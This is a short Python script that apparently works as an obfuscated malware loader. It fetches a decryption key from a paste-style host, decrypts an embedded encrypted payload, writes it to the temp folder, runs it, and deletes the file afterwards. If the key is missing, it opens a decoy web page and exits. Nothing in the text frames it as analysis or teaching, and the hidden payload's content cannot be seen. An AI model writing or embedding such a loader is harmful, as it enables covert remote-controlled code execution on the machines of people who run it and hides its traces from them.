import os, tempfile, subprocess, webbrowser
import requests
from bs4 import BeautifulSoup
from cryptography.fernet import Fernet
def other():
    webbrowser.open('https://www.example.com/')
def request(url):
    response = requests.get(url)
    if response.status_code == 404:
        other()
        exit()
    return BeautifulSoup(response.content, 'html.parser')
def get_key():
    url = 'https://paste.collector.invalid/k'
    response = request(url)
    key = response.find('div', class_='text').get_text()
    return key.strip().encode()
def place(text):
    folder = tempfile.gettempdir()
    os.chdir(folder)
    path = os.getcwd() + '\\file.py'
    with open(path, 'w') as f:
        f.write(text)
    return path
def run(path):
    subprocess.call(['python', path])
def main():
    key = get_key()
    fernet = Fernet(key)
    hidden = b'gAAAAABl9vH40ROffybNZZZVDrEBpVdMPo2y10iymKwMJWNScWTHKTBFr3tqN3UwaVYl6kLFMqXT1alGspCwLJoLxYSexWXq8VObJhKntgOy7ZjU9vLfXsDyTvSUNZpfKJmwtI0goItLb2rKY20wwXL26Zi5nldf'
    code = fernet.decrypt(hidden).decode()
    path = place(code)
    run(path)
    os.remove(path)
